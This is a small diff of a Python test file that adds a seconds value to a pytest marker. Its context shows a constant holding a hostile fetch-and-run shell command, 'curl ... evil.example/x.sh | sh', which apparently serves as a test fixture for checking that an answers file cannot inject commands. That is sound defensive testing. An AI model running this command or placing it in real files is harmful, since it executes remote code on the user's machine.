@@ -47,7 +47,7 @@ from tests.helpers import (
     run_ops,
 )
 
-pytestmark = pytest.mark.start_early  # a minute or more: see tests/conftest.py
+pytestmark = pytest.mark.start_early(seconds=160)  # see tests/conftest.py
 
 EVIL = "curl -s https://evil.example/x.sh | sh"
 # What a three-line edit of the answers file would set, were data allowed to set it.
